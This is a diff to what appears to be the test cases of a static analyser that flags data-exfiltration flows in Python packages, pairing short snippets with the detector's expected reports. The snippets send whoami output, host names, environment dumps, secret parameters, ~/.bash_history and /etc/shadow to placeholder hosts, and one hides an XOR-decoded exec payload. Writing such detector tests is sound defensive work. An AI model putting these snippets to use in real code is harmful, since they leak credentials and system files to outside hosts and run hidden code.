@@ -96,7 +96,7 @@ collect(); send()`,
     `import subprocess, requests
 requests.post('http://a.invalid', data=subprocess.check_output(['whoami']))`,
     [
-      'own.py:2 import flow process-output subprocess.check_output whoami > network-send requests.post http://a.invalid',
+      'own.py:2 import flow user-identity subprocess.check_output whoami > network-send requests.post http://a.invalid',
     ],
   ],
   [
@@ -106,14 +106,14 @@ p = subprocess.Popen('whoami', shell=True, stdout=subprocess.PIPE)
 out, err = p.communicate()
 requests.post('http://a.invalid', data=out)`,
     [
-      'own.py:4 import flow process-output subprocess.Popen.communicate > network-send requests.post http://a.invalid',
+      'own.py:4 import flow user-identity subprocess.Popen.communicate whoami > network-send requests.post http://a.invalid',
     ],
   ],
   [
     'os popen read',
     `import os, requests
 requests.post('http://a.invalid', data=os.popen('whoami').read())`,
-    ['own.py:2 import flow process-output os.popen whoami > network-send requests.post http://a.invalid'],
+    ['own.py:2 import flow user-identity os.popen whoami > network-send requests.post http://a.invalid'],
   ],
   [
     'clipboard',
@@ -311,6 +311,77 @@ requests.post('http://a.invalid', data=v)`,
     `import os, requests
 requests.post('http://a.invalid', data=open(os.path.expanduser('~/.bash_history')).read())`,
     ['own.py:2 import flow system-file open ~/.bash_history > network-send requests.post http://a.invalid'],
+  ],
+  [
+    'a variable that says whose machine it is',
+    `import os, requests
+requests.get('http://a.invalid?h=' + os.environ['COMPUTERNAME'])`,
+    [
+      'own.py:2 import flow host-identity os.environ COMPUTERNAME > network-address requests.get http://a.invalid?h=%COMPUTERNAME%',
+      'own.py:2 import flow host-identity os.environ COMPUTERNAME > network-send requests.get http://a.invalid?h=%COMPUTERNAME%',
+    ],
+  ],
+  [
+    'what a program prints, by what the program is',
+    `import os, requests
+requests.post('http://a.invalid', data=os.popen('printenv'))
+requests.post('http://b.invalid', data=os.popen('make all'))`,
+    [
+      'own.py:2 import flow environment-all os.popen printenv > network-send requests.post http://a.invalid',
+      'own.py:3 import flow process-output os.popen make all > network-send requests.post http://b.invalid',
+    ],
+  ],
+  [
+    'a secret held by something that is handed in',
+    `import requests
+def connect(config):
+    requests.post('http://a.invalid', json={'k': config.access_key_secret, 'r': config.region})`,
+    [
+      'own.py:3 call flow parameter access_key_secret access_key_secret > network-send requests.post http://a.invalid',
+    ],
+  ],
+  [
+    'secret parameters that may be left out, and the key of a function that names it',
+    `import requests
+def connect(secret_key=None, region=None):
+    requests.post('http://a.invalid', json=[secret_key, region])
+def parse_private_key(key):
+    requests.post('http://b.invalid', data=key)`,
+    [
+      'own.py:3 call flow parameter secret_key secret_key > network-send requests.post http://a.invalid',
+      'own.py:5 call flow parameter key key > network-send requests.post http://b.invalid',
+    ],
+  ],
+  [
+    'modules that whoever runs a pasted text has imported',
+    `def beacon():
+    requests.post('http://a.invalid', data=socket.gethostname())`,
+    ['own.py:2 call flow host-identity socket.gethostname > network-send requests.post http://a.invalid'],
+  ],
+  [
+    'bytes of a decoded table, mixed with a key nobody gave',
+    `def start(key):
+    table = bytearray.fromhex('${'636f6465'.repeat(30)}')
+    pad = bytearray.fromhex(key)
+    plain = bytearray([table[i] ^ pad[i % 6] for i in range(len(table))])
+    exec(plain.decode('ascii').replace('A', 'b'))`,
+    [
+      'own.py:5 call flow decoded builtins.bytearray.fromhex 240 characters > code-execution builtins.exec',
+      'own.py:5 call flow decoded builtins.bytearray.fromhex > code-execution builtins.exec',
+    ],
+  ],
+  [
+    'a test that makes the distribution send',
+    {
+      'own/__init__.py': `import requests
+def tell(host, what):
+    requests.post(host, data=what)`,
+      'tests/test_x.py': `from own import tell
+tell('http://a.invalid', open('/etc/shadow').read())`,
+    },
+    [
+      'own/__init__.py:3 development flow system-file open /etc/shadow > network-send requests.post http://a.invalid',
+    ],
   ],
 ];
 
